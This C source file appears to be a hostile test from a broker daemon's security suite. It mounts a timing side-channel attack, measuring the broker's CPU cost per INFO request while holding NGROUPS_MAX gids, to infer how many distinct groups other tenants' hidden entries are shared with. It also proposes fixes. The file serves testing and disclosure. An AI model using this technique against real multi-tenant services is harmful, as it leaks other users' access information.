// SPDX-License-Identifier: MIT
/*
 * Attack: learn how many distinct gids other users' entries grant, entries
 * the caller may not see, from what its INFO costs.
 *
 * INFO sums over the smaller side (daemon/visible.c vgroups()): the
 * caller's gids, or the scope's GACL counters, one per distinct gid that
 * a live GROUP or GID entry grants, whoever may see it.  A caller holding
 * more gids than the scope has counters (anyone, with NGROUPS_MAX in a
 * user namespace of its own) walks every counter of the scope, a
 * bisection of its gids each: its INFO's cost grows by one bisection per
 * distinct gid that anybody's entries grant, those it does not hold
 * included, while its count does not change.  So it can follow, by
 * timing its own INFOs, how many such gids the scope's entries grant and
 * when another tenant publishes an entry granting a new one (the module
 * does the same under the scope's lock, nvb_visit_gids(), where the
 * caller's own thread CPU clock measures it to the nanosecond).  Ids
 * already tell that somebody published (security-model.rst); this tells
 * how many distinct groups the hidden entries are shared with.
 *
 * A viewer with NGROUPS_MAX gids (GID_BASE..) and NPUB_UIDS publishers of
 * other uids; the broker's CPU per INFO of the viewer, by its CPU clock, the
 * least of BLOCKS blocks, with the publishers' NPUB GID entries each (each a
 * gid the viewer does not hold) absent and present.  The attack worked
 * when the viewer's count was the same both times and its INFO cost more
 * than RATIO times as much with them.
 *
 * Fix, if it matters: none cheap that keeps the smaller side; pad, or
 * walk only counters of gids the caller holds (an index of the caller's
 * gids over the counters' is the gid side again).  Else document it
 * beside the ids in Documentation/security-model.rst.
 *
 * Runs as root (becomes uids) against the broker named in argv[1].
 * Exit 0: the attack worked (a hole); 1: it did not; 2: setup failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include "hostile.h"

#define NPUB 1000	/* per uid: --max-entries-per-user is 1024 */
#define NPUB_UIDS 4
#define NREQ 2000
#define BLOCKS 3
#define RATIO 2.0	/* 1,000 counters: 3x here at best (10.6 us, then 31.5 us) */
#define GID_BASE 300000u
#define GID_FOREIGN 100000u	/* the publisher's entries' gids: not the viewer's */
#define UID_VIEW (UID_MANY + 7450)
#define UID_PUB (UID_MANY + 7451)	/* .. + NPUB_UIDS - 1 */

static int info(int s, uint32_t seq, uint64_t *entries)
{
	struct nvbridge_info i = { .size = sizeof(i) };
	struct nvbridge_wire_hdr h;
	int fd;

	if (rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_INFO, seq, &i, sizeof(i), NULL, 0, -1) ||
	    rrecv(s, &h, &i, sizeof(i), &fd, 10000) || h.result)
		return -1;
	*entries = i.entries;
	return 0;
}

/* the viewer: on each byte on cmd, NREQ INFOs; writes {count, ns of broker CPU per INFO} */
static pid_t viewer(pid_t broker, int cmd, int out)
{
	pid_t p = fork();

	if (p == 0) {
		long n = sysconf(_SC_NGROUPS_MAX);
		gid_t *g = malloc(sizeof(*g) * (size_t)n);
		int s = -1, evfd;
		char c;

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (long i = 0; g && i < n; i++)
			g[i] = GID_BASE + (gid_t)i;
		if (!g || setgroups((size_t)n, g) || setgid(UID_VIEW) || setuid(UID_VIEW) ||
		    (s = rconnect()) < 0 || rhello_keep(s, &evfd))
			_exit(2);
		while (read(cmd, &c, 1) == 1) {
			double r[2] = { -1, -1 };
			uint64_t cnt = 0;
			double c0 = cpu_clock_ms(broker), c1;
			int k;

			for (k = 0; k < NREQ; k++)
				if (info(s, (uint32_t)k + 1, &cnt))
					break;
			c1 = cpu_clock_ms(broker);
			if (k == NREQ && c0 >= 0 && c1 >= 0) {
				r[0] = (double)cnt;
				r[1] = (c1 - c0) * 1e6 / NREQ;
			}
			if (write(out, r, sizeof(r)) != sizeof(r))
				_exit(1);
		}
		_exit(0);
	}
	return p;
}

/* publisher k: NPUB GID entries, each naming a gid nobody else's does, nor the viewer holds */
static pid_t publisher(int k, int rd)
{
	pid_t p = fork();

	if (p == 0) {
		struct nvbridge_wire_hdr h;
		int s = -1, evfd = -1, fd;
		bool ok;

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		ok = !become(UID_PUB + (uid_t)k) && (s = rconnect()) >= 0 && !rhello_keep(s, &evfd);
		for (int i = 0; ok && i < NPUB; i += 50) {
			for (int j = i; ok && j < i + 50 && j < NPUB; j++) {
				struct nvbridge_publish pb = { .size = sizeof(pb), .fd = NVBRIDGE_NO_FD,
							       .access = NVBRIDGE_ACCESS_GID,
							       .gid = GID_FOREIGN + (uint32_t)(k * NPUB + j) };

				snprintf(pb.name, sizeof(pb.name), "leak.%d", j);
				ok = !rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_PUBLISH,
					    (uint32_t)j + 1, &pb, sizeof(pb), NULL, 0, -1);
			}
			for (int j = i; ok && j < i + 50 && j < NPUB; j++)
				ok = !rrecv(s, &h, NULL, 0, &fd, 10000) && !h.result;
		}
		ready_and_wait(rd, ok);
	}
	return p;
}

/* the least per-INFO cost of BLOCKS blocks (ns), *count the viewer's count; -1 */
static double least(int cmd, int out, double *count)
{
	double best = -1;

	for (int b = 0; b < BLOCKS; b++) {
		double r[2];

		if (write(cmd, "g", 1) != 1 || read(out, r, sizeof(r)) != sizeof(r) || r[1] < 0)
			return -1;
		*count = r[0];
		best = best < 0 || r[1] < best ? r[1] : best;
	}
	return best;
}

int main(int argc, char **argv)
{
	int cmd[2], out[2], rd[2], rc = 2;
	pid_t broker, v = -1, pub[NPUB_UIDS] = { -1, -1, -1, -1 };
	double before, after, n0 = -1, n1 = -2;
	char sock[64];

	if (argc < 2 || pipe(cmd) || pipe(out) || pipe(rd))
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(sock, sizeof(sock), "/tmp/nvb-gaclleak.%d.sock", getpid());
	unlink(sock);
	broker = start_broker_at(argv[1], sock);
	if (broker <= 0)
		return 2;
	v = viewer(broker, cmd[0], out[1]);
	before = least(cmd[1], out[0], &n0);
	for (int k = 0; k < NPUB_UIDS; k++)
		pub[k] = publisher(k, rd[1]);
	for (int k = 0; k < NPUB_UIDS; k++)
		if (before < 0 || rready(rd[0])) {
			printf("  setup failed\n");
			goto out;
		}
	after = least(cmd[1], out[0], &n1);
	if (after < 0) {
		printf("  setup failed: the viewer\n");
		goto out;
	}
	printf("  viewer with %ld gids: INFO counts %.0f, then %.0f; broker CPU per INFO %.2f us, "
	       "then %.2f us beside %d GID entries it may not see, each another gid (%.1fx; "
	       "bound %.1fx)\n", sysconf(_SC_NGROUPS_MAX), n0, n1, before / 1e3, after / 1e3,
	       NPUB * NPUB_UIDS, after / before, RATIO);
	rc = n0 == n1 && after > RATIO * before ? 0 : 1;
out:
	if (v > 0)
		kill(v, SIGKILL), waitpid(v, NULL, 0);
	for (int k = 0; k < NPUB_UIDS; k++)
		if (pub[k] > 0)
			kill(pub[k], SIGKILL), waitpid(pub[k], NULL, 0);
	kill(broker, SIGTERM);
	waitpid(broker, NULL, 0);
	unlink(sock);
	return rc;
}
